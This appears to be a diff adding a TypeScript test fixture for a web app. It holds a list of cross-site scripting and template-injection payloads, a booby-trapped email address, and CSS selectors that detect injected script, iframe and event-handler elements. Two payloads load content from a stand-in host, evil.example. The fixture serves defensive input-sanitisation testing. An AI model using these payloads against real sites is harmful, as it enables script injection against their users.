@@ -1,0 +1,31 @@
+/** What the usual lists try, each as long as a name may be: it runs where it is taken for anything but text. */
+export const hostileTexts = [
+  '<script>alert(1)</script>',
+  '"><script src=//evil.example/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  "';alert(1);//",
+  '" autofocus onfocus=alert(1) x="',
+  'javascript:alert(1)',
+  '</title></textarea></script><iframe srcdoc="<script>parent.alert(1)</script>">',
+  '{{constructor.constructor("alert(1)")()}}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: what is meant to be taken for a template
+  '${alert(1)}',
+  '<a href="javascript:alert(1)">x</a>',
+  '<style>*{background:url(//evil.example)}</style>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
+] as const;
+
+/** As much of it as fits into an address. */
+// biome-ignore lint/suspicious/noTemplateCurlyInString: what is meant to be taken for a template
+export const hostileEmail = "'onfocus='alert`1`'&{{7*7}}${7*7}@evil.example";
+
+/** Elements that none of our pages has, and that most of the texts would make. */
+export const foreignElements = [
+  'script:not([src^="/assets/"])',
+  'style:not([nonce])',
+  'iframe, object, embed, base, math, svg[onload]',
+  '[onerror], [onload], [onfocus], [srcdoc]',
+  'a[href^="javascript:" i]',
+].join(', ');
